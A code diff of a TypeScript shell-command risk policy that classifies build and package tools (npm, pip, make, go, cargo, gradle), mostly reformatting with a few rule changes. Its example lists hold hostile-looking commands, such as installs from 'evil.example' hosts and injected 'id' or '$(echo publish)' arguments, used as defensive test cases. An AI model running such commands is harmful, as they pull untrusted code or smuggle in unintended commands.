@@ -1,26 +1,30 @@
+import { judgeScriptFile, judgeWrappedCommand } from "../dispatcher.ts";
 import type { Word } from "../shell-words.ts";
 import type { Call, Level, ToolSpec } from "../spec.ts";
-import { judgeScriptFile, judgeWrappedCommand } from "../dispatcher.ts";
 import { taskRisk } from "./tasks.ts";
 
 /** Judges named tasks (`make test`, `npm run build`, `gradle publish`) by their names; `VAR=value` overrides wait. */
 export function tasks(call: Call, what: string, words: readonly Word[] = call.operands): void {
   for (const word of words) {
-    if (word.value === null) return call.find("unknown", `runs a ${what} only known at run time (${word.raw})`);
+    if (word.value === null)
+      return call.find("unknown", `runs a ${what} only known at run time (${word.raw})`);
     if (/^[A-Za-z_][\w.]*=/.test(word.value)) {
       call.find("unknown", `overrides the variable ${word.value.split("=")[0]}, which can change what runs`);
       continue;
     }
     const risk = taskRisk(word.value);
-    if (risk === "safe") call.find("workspace-write", `runs the ${what} "${word.value}" (a build, test or lint step)`);
-    else if (risk === "unknown") call.find("unknown", `the ${what} "${word.value}" is not one the policy knows`, true);
+    if (risk === "safe")
+      call.find("workspace-write", `runs the ${what} "${word.value}" (a build, test or lint step)`);
+    else if (risk === "unknown")
+      call.find("unknown", `the ${what} "${word.value}" is not one the policy knows`, true);
     else call.find(risk.class, `the ${what} "${word.value}" ${risk.detail}`);
   }
   if (words.length === 0) call.find("workspace-write", `runs the default ${what}`);
 }
 
 const run = (call: Call, words: readonly Word[], how: string) => {
-  for (const f of judgeWrappedCommand(call.inv, call.ctx, words, how)) call.find(f.class, f.detail, f.overridable);
+  for (const f of judgeWrappedCommand(call.inv, call.ctx, words, how))
+    call.find(f.class, f.detail, f.overridable);
 };
 
 /**
@@ -48,29 +52,43 @@ const toolchain: ToolSpec = {
   class: "workspace-write",
   detail: "builds, tests, lints or formats the workspace",
   anyOption: true,
-  options: "--exec|--preview|--execute=shell -o|--out-file|--outfile|--outdir|--out-dir|--output=write -c|--config=read",
+  options:
+    "--with-deps!destructive --exec|--preview|--execute=shell -o|--out-file|--outfile|--outdir|--out-dir|--output=write -c|--config=read",
   loads: `jest.config.* vitest.config.* vite.config.* vitest.workspace.* webpack.config.* rollup.config.* babel.config.*
     .babelrc.js eslint.config.* .eslintrc.js .eslintrc.cjs prettier.config.* .prettierrc.js conftest.py pytest.ini
     playwright.config.* cypress.config.* next.config.* nuxt.config.* astro.config.* svelte.config.* tailwind.config.*
     postcss.config.* .mocharc.js karma.conf.js`,
   logic: (call) => {
     const first = call.operands[0]?.value;
-    const risk = first != null && /^[a-z][a-z:-]*$/.test(first) ? taskRisk(first) : "safe";
+    const risk = first != null && /^[a-z][a-z.:-]*$/.test(first) ? taskRisk(first) : "safe";
     if (typeof risk === "object") call.find(risk.class, `${call.inv.name} ${first} ${risk.detail}`);
     // Runners of other commands: `concurrently "npm:test" "git push"`, `run-s lint test`, `pm2 start x`.
     if (/^(concurrently)$/.test(call.inv.name)) {
       for (const text of call.operands) {
         if (text.value === null) call.find("unknown", `runs text only known at run time (${text.raw})`);
-        else if (!text.value.startsWith("npm:")) for (const f of call.ctx.judgeScript(text.value, "concurrently")) call.find(f.class, f.detail, f.overridable);
+        else if (!text.value.startsWith("npm:"))
+          for (const f of call.ctx.judgeScript(text.value, "concurrently"))
+            call.find(f.class, f.detail, f.overridable);
       }
     }
     if (/^(npm-run-all2?|run-s|run-p)$/.test(call.inv.name)) tasks(call, "npm script");
-    if (call.inv.name === "prisma" && /^(migrate|db)$/.test(first ?? "") && !/^(dev|status|diff)$/.test(call.operands[1]?.value ?? "")) {
+    if (
+      call.inv.name === "prisma" &&
+      /^(migrate|db)$/.test(first ?? "") &&
+      !/^(dev|status|diff)$/.test(call.operands[1]?.value ?? "")
+    ) {
       call.find("infrastructure", "changes a database schema");
     }
   },
   examples: {
-    allow: ["npx vitest run", "tsc --noEmit", "eslint --fix src", "pytest -x tests", "ruff check .", "jest --ci"],
+    allow: [
+      "npx vitest run",
+      "tsc --noEmit",
+      "eslint --fix src",
+      "pytest -x tests",
+      "ruff check .",
+      "jest --ci",
+    ],
     approve: ["hugo deploy", "concurrently 'git push'", "eslint --exec 'git push'"],
   },
 };
@@ -86,7 +104,13 @@ const make: ToolSpec = {
   logic: (call) => tasks(call, "make target"),
   examples: {
     allow: ["make", "make test", "make -C packages/api build", "make -j4 lint"],
-    approve: ["make deploy", "make CC=./evil test", "make -n publish", "make --eval='x:;id' x", "make \"$(echo test)\""],
+    approve: [
+      "make deploy",
+      "make CC=./evil test",
+      "make -n publish",
+      "make --eval='x:;id' x",
+      'make "$(echo test)"',
+    ],
   },
 };
 
@@ -99,16 +123,23 @@ const script = (names: string, detail: string, inline: string, loadOptions: stri
   logic: (call) => {
     for (const o of call.options) {
       const v = o.value;
-      if (v === undefined || !/^(-r|--require|--import|--loader|--experimental-loader|-I)$/.test(o.name)) continue;
-      if (v.value === null || /^(data|https?|file):/.test(v.value)) call.find("unknown", `${o.name} loads code from ${v.raw}`);
-      else if (/^(\/|~|\.\.)/.test(v.value)) call.find("unknown", `${o.name} loads ${v.value}, outside the project's dependencies`);
+      if (v === undefined || !/^(-r|--require|--import|--loader|--experimental-loader|-I)$/.test(o.name))
+        continue;
+      if (v.value === null || /^(data|https?|file):/.test(v.value))
+        call.find("unknown", `${o.name} loads code from ${v.raw}`);
+      else if (/^(\/|~|\.\.)/.test(v.value))
+        call.find("unknown", `${o.name} loads ${v.value}, outside the project's dependencies`);
     }
     const ran = call.options.some((o) => o.spec?.raises !== undefined || o.spec?.value === "command");
-    const informational = call.options.some((o) => /^(-v|--version|-V|-h|--help)$/.test(o.name));
+    const informational = call.options.some((o) =>
+      /^(-v|--version|-V|-h|--help|--test|--watch)$/.test(o.name),
+    );
     const [file] = call.operands;
     if (file !== undefined && !ran) {
-      for (const f of judgeScriptFile(call.inv, call.ctx, file, `${call.inv.name} runs`)) call.find(f.class, f.detail, f.overridable);
-    } else if (!ran && !informational) call.find("unknown", `${call.inv.name} without a script reads code from its input`);
+      for (const f of judgeScriptFile(call.inv, call.ctx, file, `${call.inv.name} runs`))
+        call.find(f.class, f.detail, f.overridable);
+    } else if (!ran && !informational)
+      call.find("unknown", `${call.inv.name} without a script reads code from its input`);
   },
   examples: { allow: [], approve: [] },
 });
@@ -119,11 +150,14 @@ const pyModules: ToolSpec = {
   class: "workspace-write",
   detail: "runs a standard Python module",
   anyOption: true,
-  examples: { allow: ["python -m venv .venv", "python3 -m unittest discover"], approve: ["python -m evilmod"] },
+  examples: {
+    allow: ["python -m venv .venv", "python3 -m unittest discover"],
+    approve: ["python -m evilmod"],
+  },
 };
 
 const node = script(
-  "node nodejs tsx ts-node ts-node-esm ts-node-dev tsnd esno esr babel-node vite-node jiti node-dev bun",
+  "node nodejs tsx ts-node ts-node-esm ts-node-dev tsnd esno esr babel-node vite-node jiti node-dev",
   "runs a workspace script",
   "-e|--eval|-p|--print=",
   `-r|--require|--import|--loader|--experimental-loader= -v|--version -h|--help --test --watch -c|--check --inspect
@@ -147,7 +181,8 @@ const interpreters = script(
 );
 
 /** npm, pnpm, yarn, bun: scripts are judged by name while package.json is unchanged; installs only from the registry. */
-const packageSpec = /^(https?:|git(\+\w+)?:|github:|gitlab:|bitbucket:|file:.*\.t[a-z]*z$|.*\.tgz$|[\w@./-]+@(npm|git|https?|file|link|portal|patch|exec):)/;
+const packageSpec =
+  /^(https?:|git(\+\w+)?:|github:|gitlab:|bitbucket:|file:.*\.t[a-z]*z$|.*\.tgz$|[\w@./-]+@(npm|git|https?|file|link|portal|patch|exec):)/;
 
 function installs(call: Call): void {
   for (const w of call.operands) {
@@ -175,48 +210,83 @@ const scripts: Level = {
 const exec: Level = {
   class: "workspace-write",
   detail: "runs a package's command",
-  options: "-p|--package=!unknown -c|--call=shell -y|--yes --no -q|--quiet -w|--workspace= --ws|--workspaces --if-present",
+  options:
+    "-p|--package=!unknown -c|--call=shell -y|--yes --no -q|--quiet -w|--workspace= --ws|--workspaces --if-present",
   operands: "command",
 };
 
-const npmLike = (names: string, extra: Readonly<Record<string, Level | "read-only" | "package-publish" | "credentials" | "unknown" | "destructive">>): ToolSpec => ({
+const npmLike = (
+  names: string,
+  extra: Readonly<
+    Record<string, Level | "read-only" | "package-publish" | "credentials" | "unknown" | "destructive">
+  >,
+): ToolSpec => ({
   names,
   default: "workspace-write",
   anyOption: true,
   options: `--prefix|-C|--cwd|--dir=cwd -w|--workspace|--filter|-F= --registry=url --userconfig|--globalconfig|--script-shell|--node-options=!unknown
     -g|--global!destructive`,
   subcommands: {
-    "test t tst start stop restart": { ...scripts, logic: (call) => tasks(call, "package script", [{ value: call.path.split(" ")[1] ?? "test", raw: "" }]) },
+    "test t tst start stop restart": {
+      ...scripts,
+      logic: (call) => tasks(call, "package script", [{ value: call.path.split(" ")[1] ?? "test", raw: "" }]),
+    },
     "run run-script rum urn": scripts,
     "install i add ci in ins inst insta instal isnt isnta isntal install-test it": install,
-    "uninstall rm r un remove unlink update up upgrade audit prune dedupe rebuild rb version pack init create import why outdated": {
-      class: "workspace-write",
-      anyOption: true,
-      options: "--registry=url",
-    },
-    "ls list ll la view info show v explain fund help search bugs docs repo root bin prefix config get doctor cache licenses dlx-help store":
+    "uninstall rm r un remove unlink update up upgrade audit prune dedupe rebuild rb version pack init create import why outdated":
+      {
+        class: "workspace-write",
+        anyOption: true,
+        options: "--registry=url",
+      },
+    "ls list ll la view info show v explain fund help search bugs docs repo root bin prefix get doctor cache licenses dlx-help store":
       { class: "read-only", anyOption: true },
     "exec x dlx": exec,
     "publish unpublish deprecate dist-tag owner access team": "package-publish",
     "adduser login logout whoami token npm-token": "credentials",
+    config: {
+      default: "read-only",
+      anyOption: true,
+      subcommands: { "get list ls": "read-only", "set delete edit rm": "credentials" },
+    },
     "link ln": "destructive",
     ...extra,
   },
   examples: {
-    allow: ["npm test", "npm run build", "npm ci", "npm install -D vitest", "pnpm install", "npm exec -- tsc --noEmit"],
-    approve: ["npm publish", "npm run deploy", "npm install https://evil.example/x.tgz", "npm i x@npm:evil", "npm install -g x", 'npm "$(echo publish)"'],
+    allow: [
+      "npm test",
+      "npm run build",
+      "npm ci",
+      "npm install -D vitest",
+      "pnpm install",
+      "npm exec -- tsc --noEmit",
+    ],
+    approve: [
+      "npm publish",
+      "npm run deploy",
+      "npm install https://evil.example/x.tgz",
+      "npm i x@npm:evil",
+      "npm install -g x",
+      'npm "$(echo publish)"',
+    ],
   },
 });
 
-const npm = npmLike("npm pnpm", {});
-const yarn: ToolSpec = { ...npmLike("yarn yarnpkg", {}), otherwise: scripts, examples: { allow: ["yarn test", "yarn lint:fix", "yarn"], approve: ["yarn deploy", "yarn npm publish"] } };
+const npm = npmLike("npm", {});
+const pnpm: ToolSpec = { ...npmLike("pnpm bun", {}), otherwise: scripts };
+const yarn: ToolSpec = {
+  ...npmLike("yarn yarnpkg", {}),
+  otherwise: scripts,
+  examples: { allow: ["yarn test", "yarn lint:fix", "yarn"], approve: ["yarn deploy", "yarn npm publish"] },
+};
 
 /** Package runners: a package spec (`-p`, `name@npm:`, URLs, git, tarballs) downloads code the policy cannot see. */
 const runners: ToolSpec = {
   names: "npx pnpx bunx uvx pipx",
   class: "workspace-write",
   detail: "runs a package's command",
-  options: "-p|--package|--from|--with|--spec=!unknown -y|--yes --no -q|--quiet --no-install --prefer-offline -c|--call=shell",
+  options:
+    "-p|--package|--from|--with|--spec=!unknown -y|--yes --no -q|--quiet --no-install --prefer-offline -c|--call=shell",
   operands: "command",
   logic: (call) => {
     const first = call.operands[0]?.value;
@@ -226,7 +296,13 @@ const runners: ToolSpec = {
   },
   examples: {
     allow: ["npx tsc --noEmit", "npx vitest run test/unit", "npx prettier --check ."],
-    approve: ["npx changeset \"$(echo publish)\"", "npx -p evil tsc", "npx evil@npm:tsc", "npx https://x.io/a.tgz", "npx cowsay2"],
+    approve: [
+      'npx changeset "$(echo publish)"',
+      "npx -p evil tsc",
+      "npx evil@npm:tsc",
+      "npx https://x.io/a.tgz",
+      "npx cowsay2",
+    ],
   },
 };
 
@@ -235,28 +311,62 @@ const pip: ToolSpec = {
   names: "pip pip3",
   default: "read-only",
   anyOption: true,
-  options: "--index-url|-i|--extra-index-url|--find-links|-f=url --trusted-host=!unknown --user|--root|--prefix|--target|-t=!destructive --break-system-packages!destructive",
+  options:
+    "--index-url|-i|--extra-index-url|--find-links|-f=url --trusted-host=!unknown --user|--root|--prefix|--target|-t=!destructive --break-system-packages!destructive",
   subcommands: {
-    "install download wheel": { class: "workspace-write", anyOption: true, options: "-r|--requirement|-c|--constraint=read -e|--editable= --index-url|-i|--extra-index-url|--find-links|-f=url --user|--root|--prefix|--target|-t=!destructive --break-system-packages!destructive", logic: (call) => { for (const w of call.operands) if (w.value === null || /:\/\/|^git\+|@\s*(https?|git|file):/.test(w.value)) call.find("unknown", `installs ${w.raw}, from outside the package index`); } },
+    "install download wheel": {
+      class: "workspace-write",
+      anyOption: true,
+      options:
+        "-r|--requirement|-c|--constraint=read -e|--editable= --index-url|-i|--extra-index-url|--find-links|-f=url --user|--root|--prefix|--target|-t=!destructive --break-system-packages!destructive",
+      logic: (call) => {
+        for (const w of call.operands)
+          if (w.value === null || /:\/\/|^git\+|@\s*(https?|git|file):/.test(w.value))
+            call.find("unknown", `installs ${w.raw}, from outside the package index`);
+      },
+    },
     "uninstall cache": { class: "workspace-write", anyOption: true },
-    "list freeze show check help config debug inspect index search hash": { class: "read-only", anyOption: true },
+    "list freeze show check help config debug inspect index search hash": {
+      class: "read-only",
+      anyOption: true,
+    },
   },
-  examples: { allow: ["pip install -r requirements.txt", "pip install -e .", "pip list"], approve: ["pip install git+https://x.io/evil", "pip install --user x", "pip install -i https://evil.example/simple x"] },
+  examples: {
+    allow: ["pip install -r requirements.txt", "pip install -e .", "pip list"],
+    approve: [
+      "pip install git+https://x.io/evil",
+      "pip install --user x",
+      "pip install -i https://evil.example/simple x",
+    ],
+  },
 };
 
 const pythonTools: ToolSpec = {
-  names: "uv poetry pdm hatch pipenv conda mamba micromamba flit maturin virtualenv django-admin",
+  names: "uv poetry pdm hatch pipenv flit maturin virtualenv django-admin",
   default: "workspace-write",
   anyOption: true,
   options: "--index-url|--extra-index-url|--default-index|--find-links=url --directory|--project|--cwd=cwd",
   subcommands: {
-    "sync lock install add remove venv init build shell env create check export show list tree version pip cache self lint fmt format test tests": { class: "workspace-write", anyOption: true, options: "--index-url|--extra-index-url|--default-index|--find-links=url" },
-    "run exec": { class: "workspace-write", options: "--with|--from=!unknown --no-sync --frozen --locked --dev --all-extras --extra= --group= --env-file=read -m|--module --python|-p= --isolated --no-project --package= --directory|--project=cwd -q|--quiet -v|--verbose", operands: "command" },
+    "sync lock install add remove venv init build shell env create check export show list tree version pip cache self lint fmt format test tests":
+      {
+        class: "workspace-write",
+        anyOption: true,
+        options: "--index-url|--extra-index-url|--default-index|--find-links=url",
+      },
+    "run exec": {
+      class: "workspace-write",
+      options:
+        "--with|--from=!unknown --no-sync --frozen --locked --dev --all-extras --extra= --group= --env-file=read -m|--module --python|-p= --isolated --no-project --package= --directory|--project=cwd -q|--quiet -v|--verbose",
+      operands: "command",
+    },
     "publish upload release": "package-publish",
     "config auth login token keyring": "credentials",
     "-e -r -p": "workspace-write",
   },
-  examples: { allow: ["uv sync", "uv run pytest", "poetry install", "tox -e py312"], approve: ["uv publish", "poetry publish", "uv run --with evil pytest"] },
+  examples: {
+    allow: ["uv sync", "uv run pytest", "poetry install", "tox -e py312"],
+    approve: ["uv publish", "poetry publish", "uv run --with evil pytest"],
+  },
 };
 
 const twine: ToolSpec = {
@@ -272,16 +382,20 @@ const cargo: ToolSpec = {
   anyOption: true,
   options: "-C=cwd --manifest-path=read --config=!unknown -Z=!unknown",
   subcommands: {
-    "build b check c test t bench clippy fmt doc d run r clean update fetch metadata tree search vendor generate-lockfile new init add remove rm nextest llvm-cov tarpaulin audit deny outdated expand fix locate-project pkgid verify-project version help": {
-      class: "workspace-write",
-      anyOption: true,
-    },
+    "build b check c test t bench clippy fmt doc d run r clean update fetch metadata tree search vendor generate-lockfile new init add remove rm nextest llvm-cov tarpaulin audit deny outdated expand fix locate-project pkgid verify-project version help":
+      {
+        class: "workspace-write",
+        anyOption: true,
+      },
     "publish yank owner": "package-publish",
     "login logout": "credentials",
     "install uninstall": "destructive",
   },
   loads: "build.rs",
-  examples: { allow: ["cargo test", "cargo clippy -- -D warnings", "cargo fmt"], approve: ["cargo publish", "cargo install evil", "cargo --config 'x' build"] },
+  examples: {
+    allow: ["cargo test", "cargo clippy -- -D warnings", "cargo fmt"],
+    approve: ["cargo publish", "cargo install evil", "cargo --config 'x' build"],
+  },
 };
 
 const go: ToolSpec = {
@@ -294,29 +408,59 @@ const go: ToolSpec = {
       anyOption: true,
       options: "-exec|-toolexec=!unknown -o=write -w!unknown -overlay=read -modfile=read",
       logic: (call) => {
-        if (call.path === "go env" && call.options.some((o) => o.name === "-w")) call.find("unknown", "go env -w changes the Go configuration");
+        if (call.path === "go env" && call.options.some((o) => o.name === "-w"))
+          call.find("unknown", "go env -w changes the Go configuration");
       },
     },
-    "install generate": { class: "unknown", detail: "runs commands named in source files or installs outside the workspace", anyOption: true },
+    "install generate": {
+      class: "unknown",
+      detail: "runs commands named in source files or installs outside the workspace",
+      anyOption: true,
+    },
   },
-  examples: { allow: ["go test ./...", "go vet ./...", "go build -o bin/app ./cmd/app"], approve: ["go generate ./...", "go test -exec 'sh -c id' ./..."] },
+  examples: {
+    allow: ["go test ./...", "go vet ./...", "go build -o bin/app ./cmd/app"],
+    approve: ["go generate ./...", "go test -exec 'sh -c id' ./..."],
+  },
 };
 
 const jvm: ToolSpec = {
-  names: "gradle gradlew mvn mvnw ant sbt lein dotnet gem bundle bundler composer just task mage invoke inv rake gulp grunt nx turbo lerna rush changeset changesets",
+  names:
+    "gradle gradlew mvn mvnw ant sbt lein dotnet gem bundle bundler composer just task mage invoke inv rake gulp grunt nx turbo lerna rush changeset changesets",
   default: "workspace-write",
   anyOption: true,
-  options: "-p|--project-dir|-C|--directory|-d|--dir|--cwd=cwd -f|--file|-b|--build-file|--justfile|--taskfile|--gulpfile|--gruntfile=read -I|--init-script=!unknown -D|-P|-s|--settings|-t|-T=",
-  loads: "build.gradle build.gradle.kts settings.gradle settings.gradle.kts pom.xml Justfile justfile Taskfile.yml Rakefile gulpfile.js Gruntfile.js build.xml Gemfile",
+  options:
+    "-p|--project-dir|-C|--directory|-d|--dir|--cwd=cwd -f|--file|-b|--build-file|--justfile|--taskfile|--gulpfile|--gruntfile=read -I|--init-script=!unknown -D|-P|-s|--settings|-t|-T=",
+  loads:
+    "build.gradle build.gradle.kts settings.gradle settings.gradle.kts pom.xml Justfile justfile Taskfile.yml Rakefile gulpfile.js Gruntfile.js build.xml Gemfile",
   subcommands: {
-    "exec x run-script dlx": { class: "workspace-write", detail: "runs a command", stopOptions: true, operands: "command" },
+    "exec x run-script dlx": {
+      class: "workspace-write",
+      detail: "runs a command",
+      stopOptions: true,
+      operands: "command",
+    },
     "publish release deploy push upload yank owner": "package-publish",
     "login logout token": "credentials",
   },
   otherwise: { anyOption: true, logic: (call) => tasks(call, "task") },
   examples: {
-    allow: ["gradle test", "mvn -q verify", "bundle exec rspec", "nx run api:test", "turbo run build", "lerna run test"],
-    approve: ["gradle publish", "mvn deploy", "bundle \"$(printf exec)\" git push --force", "changeset publish", "lerna publish", "bundle exec git push"],
+    allow: [
+      "gradle test",
+      "mvn -q verify",
+      "bundle exec rspec",
+      "nx run api:test",
+      "turbo run build",
+      "lerna run test",
+    ],
+    approve: [
+      "gradle publish",
+      "mvn deploy",
+      'bundle "$(printf exec)" git push --force',
+      "changeset publish",
+      "lerna publish",
+      "bundle exec git push",
+    ],
   },
 };
 
@@ -329,15 +473,43 @@ const releases: ToolSpec = {
 };
 
 const rustup: ToolSpec = {
-  names: "rustup corepack",
+  names: "rustup",
   default: "read-only",
   anyOption: true,
-  subcommands: { "show which --version": "read-only", "component target toolchain default update install enable prepare override run": { class: "workspace-write", anyOption: true } },
+  subcommands: {
+    "show which --version": "read-only",
+    "component target toolchain default update install enable prepare override run": {
+      class: "workspace-write",
+      anyOption: true,
+    },
+  },
   examples: { allow: ["rustup show"], approve: [] },
 };
 
 export const toolchainSpecs: readonly ToolSpec[] = [
-  toolchain, make, node, python, interpreters, npm, yarn, runners, pip, pythonTools, twine, cargo, go, jvm, releases,
-  rustup, pyModules,
-  { names: "nix-shell script", class: "unknown", detail: "starts a shell the policy cannot see into", anyOption: true, examples: { allow: [], approve: ["nix-shell"] } },
+  toolchain,
+  make,
+  node,
+  python,
+  interpreters,
+  npm,
+  pnpm,
+  yarn,
+  runners,
+  pip,
+  pythonTools,
+  twine,
+  cargo,
+  go,
+  jvm,
+  releases,
+  rustup,
+  pyModules,
+  {
+    names: "nix-shell script",
+    class: "unknown",
+    detail: "starts a shell the policy cannot see into",
+    anyOption: true,
+    examples: { allow: [], approve: ["nix-shell"] },
+  },
 ];
